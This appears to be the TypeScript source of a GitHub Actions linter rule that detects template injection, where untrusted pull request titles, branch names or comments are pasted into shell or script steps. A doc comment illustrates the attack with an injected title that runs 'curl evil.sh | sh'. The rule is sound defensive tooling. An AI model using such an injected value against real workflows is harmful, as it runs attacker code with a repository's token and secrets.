import type { Rule } from "../rule.js";
import { envOf, severityOf, taintOf } from "../untrusted.js";
import { parseActionRef } from "../bundled-actions.js";
import { isObject, jobsOf, stepsOf } from "../walk.js";

/**
 * Actions that run one of their inputs as code, by lower-case `owner/repo`: the input and the
 * language it is run in. `${{ }}` in such an input is pasted into the code, as in `run:`.
 */
const CODE_INPUTS: Readonly<Record<string, readonly { readonly input: string; readonly language: string }[]>> = {
  "actions/github-script": [{ input: "script", language: "JavaScript" }],
  "azure/cli": [{ input: "inlinescript", language: "shell" }],
  "azure/powershell": [{ input: "inlinescript", language: "PowerShell" }],
  "appleboy/ssh-action": [{ input: "script", language: "shell on the remote host" }],
  "garygrossgarten/github-action-ssh": [{ input: "command", language: "shell on the remote host" }],
  "nick-fields/retry": [{ input: "command", language: "shell" }],
  "nick-invision/retry": [{ input: "command", language: "shell" }],
  "wandalen/wretry.action": [{ input: "command", language: "shell" }],
  "jannekem/run-python-script-action": [{ input: "script", language: "Python" }],
  "amadevus/pwsh-script": [{ input: "script", language: "PowerShell" }],
  "addnab/docker-run-action": [{ input: "run", language: "shell in the container" }, { input: "options", language: "part of the `docker run` command line" }],
  "mikefarah/yq": [{ input: "cmd", language: "shell" }],
  "cypress-io/github-action": [{ input: "build", language: "shell" }, { input: "start", language: "shell" }, { input: "command", language: "shell" }],
  "matlab-actions/run-command": [{ input: "command", language: "MATLAB" }],
};

/** `github.event.pull_request.title` → `TITLE`, the variable the hint suggests. */
const variableFor = (field: string) => field.split(".").filter((key) => key !== "*").pop()!.replace(/[^A-Za-z0-9]+/g, "_").toUpperCase();

const listed = (fields: readonly string[]) => fields.map((field) => `\`${field}\``).join(", ");

/**
 * A `${{ }}` in a script is pasted into its text before the script runs, so a pull request
 * title such as `a"; curl evil.sh | sh; "` becomes code. Run by the compiler too: run() moves
 * expressions into `env:` unless `hoistExpressions: false`, so for workflows.ts this catches
 * that opt-out and github-script scripts.
 */
export const templateInjection: Rule = {
  id: "template-injection",
  severity: "error",
  actionSteps: true,
  severityReason: "error when the value is an outsider's (a pull request title, branch name, comment, commit message): anyone who can open a pull request or an issue runs code with the workflow's token and secrets. A warning when every value is a free-text `inputs` of `workflow_dispatch` (only people with write access dispatch) or `workflow_call` (safe or not depending on the caller). `boolean`, `number`, `choice` and `environment` inputs cannot carry code and are not findings.",
  description: "untrusted values (pull request titles and bodies, branch names, commit messages, comments, labels, free-text inputs) expanded with `${{ }}` into a `run:` script (any shell), an actions/github-script `script:` or another action input run as code, directly or through `${{ env.NAME }}` or a matrix value set from one",
  examples: {
    bad: "on: pull_request\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n",
    good: "on: pull_request\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n",
  },
  check({ model, report }) {
    const workflowTaint = taintOf(model);
    for (const job of jobsOf(model)) {
      const strategy = (job.job as { strategy?: unknown }).strategy;
      const jobTaint = typeof strategy === "object" && strategy !== null ? workflowTaint.withMatrix((strategy as { matrix?: unknown }).matrix) : workflowTaint;
      for (const { step, path } of stepsOf(job)) {
        const { run, uses, with: inputs } = step as { run?: unknown; uses?: unknown; with?: unknown };
        // Only a script that reads `env.` can take an untrusted value through it.
        const readsEnv = [run, isObject(inputs) ? Object.values(inputs) : []].flat().some((v) => typeof v === "string" && /\benv\./i.test(v));
        const taint = readsEnv ? jobTaint.withEnv(envOf(model, job.job, step)) : jobTaint;
        if (typeof run === "string") {
          const fields = taint.text(run);
          if (fields.length > 0) {
            const name = variableFor(fields[0]!);
            report([...path, "run"], `untrusted ${listed(fields)} is expanded into the shell script: a crafted value runs as code`,
              `pass it through \`env:\` (\`${name}: \${{ ${fields[0]} }}\`) and use "$${name}" in the script; run() in workflows.ts does this unless hoistExpressions is false`, severityOf(fields));
          }
        }
        const action = typeof uses === "string" ? parseActionRef(uses) : undefined;
        const sinks = action ? CODE_INPUTS[action.repo.toLowerCase()] : undefined;
        if (!action || !sinks || !isObject(inputs)) continue;
        for (const sink of sinks) {
          const input = Object.keys(inputs).find((key) => key.toLowerCase() === sink.input);
          const code = input === undefined ? undefined : inputs[input];
          if (typeof code !== "string") continue;
          const fields = taint.text(code);
          if (fields.length === 0) continue;
          const name = variableFor(fields[0]!);
          if (sink.language === "JavaScript") {
            report([...path, "with", input!], `untrusted ${listed(fields)} is expanded into the github-script script: a crafted value runs as JavaScript`,
              `pass it through the step's \`env:\` (\`${name}: \${{ ${fields[0]} }}\`) and read \`process.env.${name}\` in the script`, severityOf(fields));
          } else {
            report([...path, "with", input!], `untrusted ${listed(fields)} is expanded into ${action.repo}'s \`${input}\`, which it runs as ${sink.language}: a crafted value runs as code`,
              `pass it through the step's \`env:\` (\`${name}: \${{ ${fields[0]} }}\`) and read the variable in the code`, severityOf(fields));
          }
        }
      }
    }
  },
};
